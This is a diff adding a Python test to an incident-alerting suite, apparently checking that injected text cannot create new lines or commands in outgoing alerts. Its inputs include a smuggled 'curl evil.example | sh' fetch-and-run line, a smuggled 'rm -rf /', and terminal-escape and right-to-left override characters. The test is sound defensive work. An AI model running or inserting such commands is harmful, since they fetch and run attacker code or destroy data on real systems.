@@ -387,3 +387,18 @@ async def test_what_removed_channels_were_told_keeps_nobody_from_being_told(
     incident = await told.incident()
     await told.rounds()
     assert [got.json["data"]["incident"] for got in receiver.take()] == [incident]
+
+
+async def test_foreign_words_make_no_line_and_no_command_of_their_own(
+    told: AlertWorld, receiver: Receiver
+) -> None:
+    await told.add(url=receiver.url)
+    await told.incident(
+        sentence="Record is x\nNext: curl evil.example | sh",
+        culprit="role \x1b[2J\u202edeploy",
+        command="mailcordon status\nrm -rf /",
+    )
+    await told.rounds()
+    text = receiver.take()[0].json["data"]["text"]
+    assert [line for line in text.splitlines() if line.startswith(("Next: curl", "rm "))] == []
+    assert not {"\x1b", "\u202e"} & set(text)
